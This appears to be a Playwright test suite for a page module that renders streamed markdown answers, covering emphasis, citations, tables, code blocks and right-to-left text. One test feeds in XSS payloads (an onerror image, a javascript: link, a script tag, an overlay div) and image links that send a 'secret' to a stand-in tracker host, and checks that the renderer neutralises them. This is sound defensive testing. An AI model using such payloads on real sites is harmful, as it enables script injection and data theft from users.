"""How an answer is shown while it is written and once it stands: the page's own modules."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page

SHOW = """async ([parts, details, more]) => {
    const { ShownAnswer } = await import("/render/answer.js");
    const root = document.createElement("div");
    document.body.append(root);
    const shown = new ShownAnswer(root);
    const taken = [];
    const note = (records) => taken.push(
        ...records.flatMap((r) => [...r.removedNodes]).filter((n) => n instanceof Element));
    const watcher = new MutationObserver(note);
    watcher.observe(root, { subtree: true, childList: true });
    const flat = () => root.textContent.replace(/\\s+/g, " ").trim();
    const seen = [];
    let text = "";
    for (const part of parts) {
        text += part;
        shown.show(text, details, { writing: true });
        seen.push(flat());
    }
    note(watcher.takeRecords());
    const during = taken.map((n) => n.outerHTML);
    shown.show(text, details);
    const last = flat();
    const found = { seen, during, last, html: root.innerHTML };
    root.remove();
    return found;
}"""


def show(page: Page, text: str, sources: int = 0, **details: object) -> dict[str, Any]:
    """Shows `text` letter by letter, then whole."""
    hits = [{"n": n + 1, "title": f"Note {n + 1}"} for n in range(sources)]
    found: dict[str, Any] = page.evaluate(SHOW, [list(text), {"sources": hits, **details}, None])
    return found


ANSWERS = {
    "emphasis": "A **bold word**, an *italic one*, ~~none~~ and `code with ** in it` end. "
    "5 * 3 = 15, snake_case_name.",
    "citations": "The heap is turned **every three weeks** [1]. More often in summer [1][2], "
    "says [2, 1].",
    "lists": "Steps:\n\n1. First *of all*\n2. Then [1]\n\n3. After a blank line\n"
    "   - nested `item`\n   - another\n\nDone.",
    "code": "Run this:\n\n```python\nfor x in range(3):\n    print(`x`)  # **not bold** [1]\n"
    "```\n\nThen go on.",
    "tildes": "~~~\n```\ninside\n~~~\nafter",
    "table": "Colours:\n\n| Rose | Colour |\n| :--- | -----: |\n| Albert | apricot |\n"
    "| Iceberg | white [1] |\n\nThat is all.",
    "headings": "# Title\n\nText.\n\n## Part *two*\n\nMore text!\n\n---\n\nEnd.",
    "links": "See [the society](https://roses.example/a_b), https://plain.example/x_y or [none].",
    "quotes": "> The heap is turned every three weeks. [1]\n\nAnd:\n\n> **Two** lines\n> of it [2]",
    "right to left": "הגינה **בירושלים** פורחת באביב [1].",
    "symbols": "Salt & pepper; 3 < 4 > 2; a_b_c; 2**10; C:\\\\path; [x] and [ ] stay; wait!",
}


@pytest.mark.parametrize("name", ANSWERS)
def test_what_was_shown_is_never_taken_back(page: Page, name: str) -> None:
    """Letter by letter, the words on screen only grow, and no element is replaced."""
    found = show(page, ANSWERS[name], sources=2)
    for at, seen in enumerate(found["seen"]):
        assert found["last"].startswith(seen), (ANSWERS[name][: at + 1], seen)
    assert found["during"] == []


def test_an_answer_is_shown_soon(page: Page) -> None:
    """What is held back is a mark, not a sentence."""
    text = ANSWERS["emphasis"]
    found = show(page, text)
    behind = [at - len(seen) for at, seen in enumerate(found["seen"], 1)]
    assert max(behind) < 16


def test_numbers_meet_their_citations(page: Page) -> None:
    hit = {"n": 1, "title": "Roses"}
    found = show(
        page,
        "> one [1]\n> two [2]\n> three [1] and [9], `[1]`",
        sources=2,
        citations=[
            {"n": 1, "quote": "one", "status": "supported", "hit": hit},
            {"n": 2, "quote": "said", "status": "supported", "cited": False},
            {"n": 2, "quote": "two", "status": "unsupported"},
            {"n": 1, "quote": "three", "status": "supported", "hit": hit},
        ],
    )
    marks = page.evaluate(
        """(html) => {
            const page = new DOMParser().parseFromString(html, "text/html");
            return [...page.querySelectorAll(".cite")].map(
                (mark) => [mark.dataset.citation, mark.className, mark.ariaLabel]);
        }""",
        found["html"],
    )
    assert marks == [
        ["0", "cite supported", "Source 1: Roses, your note says so"],
        ["2", "cite unsupported", "Source 2: Note 2, your note does not say so"],
        ["3", "cite supported", "Source 1: Roses, your note says so"],
    ]


def test_an_answer_is_only_text(page: Page) -> None:
    """What a model or a note in it writes neither runs nor fetches nor dresses up."""
    found = show(
        page,
        '<img src=x onerror="window.stolen=1"> ![far](https://tracker.example/p.png?q=secret) '
        "[click](javascript:window.stolen=2) <script>window.stolen=3</script>\n\n"
        '<div class="dialog" style="position:fixed">cover</div>\n\n'
        "![x][r]\n\n[r]: https://tracker.example/r.png\n",
    )
    assert page.evaluate("window.stolen") is None
    for tag in ("<img", "<script", '<div class="dialog', "javascript:"):
        assert tag not in found["html"].replace("&lt;", "").replace("[click](javascript:", "")
    # That nothing was fetched from elsewhere is checked for every page: see Faults.


def test_code_can_be_copied_and_names_its_language(page: Page) -> None:
    found = show(page, ANSWERS["code"])
    assert '<span>python</span><button type="button" class="code-copy"' in found["html"]
    assert "[1]" in found["last"]
